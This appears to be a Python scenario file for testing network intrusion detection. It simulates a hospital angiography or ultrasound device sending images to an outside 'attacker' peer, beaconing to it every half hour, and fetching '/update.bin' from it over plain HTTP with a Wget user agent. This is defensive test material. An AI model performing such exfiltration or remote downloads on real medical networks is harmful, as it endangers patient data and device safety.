"""A medical device talks to an address outside that is none of its maker's (ATT&CK T1041): it should talk to nobody there.

loud: an angiography unit sends 8 MB to a stranger over TLS. slow: it asks for a page every half hour, some hundred bytes. clear: an
ultrasound unit does it without TLS. Radiology may go out by 80 and 443, for its makers' sake.
"""

from __future__ import annotations

from acts.intrusion import MASTER, call_home, carry_out
from acts.office import browse
from scenario import Scenario, Script

PEERS = ("attacker", "ns")
LOUD_BYTES = 8_000_000
SLOW_CALLS, SLOW_S = 16, 1_800


def loud(script: Script) -> None:
    script.act("xa01", "images carried out", carry_out(LOUD_BYTES, 4), *PEERS)


def slow(script: Script) -> None:
    for _ in range(SLOW_CALLS):
        script.act("xa01", "call to the outside", call_home(), *PEERS)
        script.wait(SLOW_S)


def clear(script: Script) -> None:
    script.act("us01", "page of the outside", browse(f"http://{MASTER}", "/update.bin", "Wget/1.21"), *PEERS, technique=("T1041", "T1105"))


SCENARIO = Scenario(
    name="device-outside",
    title="A medical device talks to a stranger outside",
    technique=("T1041",),
    variants={"loud": loud, "slow": slow, "clear": clear},
    row="medical device to the internet",
)
